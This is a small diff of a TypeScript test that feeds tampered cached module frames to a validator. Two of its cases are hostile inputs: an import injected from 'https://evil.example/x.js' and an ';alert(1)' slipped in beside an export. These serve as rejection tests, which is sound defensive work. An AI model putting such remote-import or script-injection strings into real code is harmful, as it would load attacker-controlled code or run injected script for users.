@@ -51,7 +51,7 @@ describe('frames of modules that are kept from run to run', () => {
       (text: string) => text.replace(/import type[^;]*;/, "import 'https://evil.example/x.js';"),
     ],
     ['code beside an export', (text: string) => text.replace(/"\]$/, ';alert(1)"]')],
-    ['another module', (text: string) => text.replace('src/model.ts', 'src/other.ts')],
+    ['another module', (text: string) => text.replace('src/model/', 'src/other/')],
     ['a comment that swallows a line', (text: string) => text.replace('export', '//export')],
     ['a part less', (text: string) => JSON.stringify([JSON.parse(text)[0]])],
     ['no list', () => '{}'],
